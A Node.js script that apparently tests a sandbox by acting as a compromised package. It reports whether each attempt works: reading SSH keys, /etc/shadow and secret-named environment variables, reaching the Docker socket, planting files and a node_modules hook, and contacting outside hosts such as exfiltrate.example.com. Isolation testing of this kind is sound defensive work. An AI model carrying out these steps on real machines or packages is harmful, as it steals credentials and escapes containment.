// SPDX-License-Identifier: Apache-2.0
// Stands for a package that was taken over: it looks for secrets and a way to send them home.
// It prints every attempt with what came of it: attempt, what, target, outcome, by tabs.
import { lookup } from 'node:dns/promises'
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
import { connect } from 'node:net'
import { homedir } from 'node:os'

const { LOOT_FILE: lootFile, HOST_HOME: hostHome, HOST_PORT: hostPort, HOST_PID: hostPid } = process.env

const ATTEMPTS = [
  ['read a private key', `${homedir()}/.ssh/id_ed25519`, (path) => readFile(path)],
  ["read the host's keys", `${hostHome}/.ssh/id_ed25519`, (path) => readFile(path)],
  ["list the host's home", hostHome, (path) => readdir(path)],
  ['read password hashes', '/etc/shadow', (path) => readFile(path)],
  ['read a secret on the host', lootFile, (path) => readFile(path)],
  ['read keys from the environment', 'names with KEY, TOKEN, SECRET', findKeys],
  ['use the container engine', '/var/run/docker.sock', reach],
  ['see a process of the host', hostPid, findProcess],
  ['plant a file on the host', `${lootFile}.planted`, (path) => writeFile(path, 'hello')],
  ['call the host', `127.0.0.1:${hostPort}`, reach],
  ['call a server far away', '192.0.2.1:443', reach],
  ['look up a name', 'exfiltrate.example.com', (name) => lookup(name)],
]

for (const [what, target, attempt] of ATTEMPTS) {
  let outcome = 'GOT IT'
  try {
    await attempt(target)
  } catch (error) {
    outcome = error.code ?? error.message
  }
  console.log(['attempt', what, target, outcome].join('\t'))
}

await mkdir('node_modules', { recursive: true })
await writeFile('node_modules/.hook.js', '// would run with every test\n')

async function findProcess(pid) {
  const commandLine = await readFile(`/proc/${pid}/cmdline`, 'utf8')
  // Inside there may be another process of that number.
  if (!commandLine.includes('demo.ts')) throw Object.assign(new Error('another process'), { code: 'ESRCH' })
}

function findKeys() {
  const names = Object.keys(process.env).filter((name) => /KEY|TOKEN|SECRET|PASSWORD|CREDENTIAL/i.test(name))
  if (names.length === 0) throw new Error('none there')
  console.error(`found ${names.join(' ')}`)
}

function reach(target) {
  const [host, port] = target.split(':')
  const socket = port === undefined ? connect(target) : connect({ host, port: Number(port) })
  return new Promise((resolve, reject) => {
    socket.setTimeout(3000, () => socket.destroy(Object.assign(new Error('no answer'), { code: 'ETIMEDOUT' })))
    socket.once('connect', () => resolve(socket.destroy()))
    socket.once('error', reject)
  })
}
